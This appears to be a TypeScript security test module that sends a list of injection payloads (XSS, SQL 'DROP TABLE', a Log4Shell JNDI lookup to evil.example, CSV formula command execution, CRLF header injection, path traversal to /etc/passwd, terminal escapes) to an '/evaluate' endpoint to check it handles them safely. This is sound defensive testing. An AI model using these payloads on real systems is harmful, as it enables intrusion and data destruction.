import type { Family } from '../attack.ts';
import { posted } from '../send.ts';
import { ruled } from './judged.ts';

/** Text that does harm where it is shown: in terminals, pages, logs and tables. */
const TEXTS = [
  '\u001b]0;pwned\u0007\u001b[2J',
  '::error file=x,line=1::injected',
  '\n::add-mask::a\n',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE evaluations; --",
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '%s%s%n%x',
  '\u202egnp.exe',
  '\u0000',
  '\ud800',
  '\u2028\u2029',
  'a\r\nSet-Cookie: b=c',
  '=cmd|" /C calc"!A0',
  '../../../../etc/passwd',
  '\ufeff',
  '𝕳𝖊𝖑𝖑𝖔'.repeat(100),
  'e\u0301'.repeat(1000),
  '\u0001\u0002\u007f\u009b31m',
] as const;

/** Names, messages and values that would be commands elsewhere: answers are JSON that reads back as it was sent. */
export const text: Family = {
  name: 'text',
  shapes: ['keyed', 'embedded', 'fleet'],
  attacks: () =>
    TEXTS.flatMap((one, i) => [
      posted(
        `text ${i + 1} as a name`,
        '/evaluate',
        ['json', JSON.stringify({ objects: [{ apiVersion: one, kind: one, metadata: { name: one, namespace: one } }] })],
        [200],
      ),
      posted(`text ${i + 1} in a rule's message`, '/evaluate', ['json', ruled('false', { s: one, message: 'self.s' })], [200], {
        says: /"outcome":"rejected"/,
      }),
      posted(`text ${i + 1} as an option`, '/evaluate', ['json', JSON.stringify({ options: { [one]: one }, objects: [{}] })], [400]),
    ]),
};
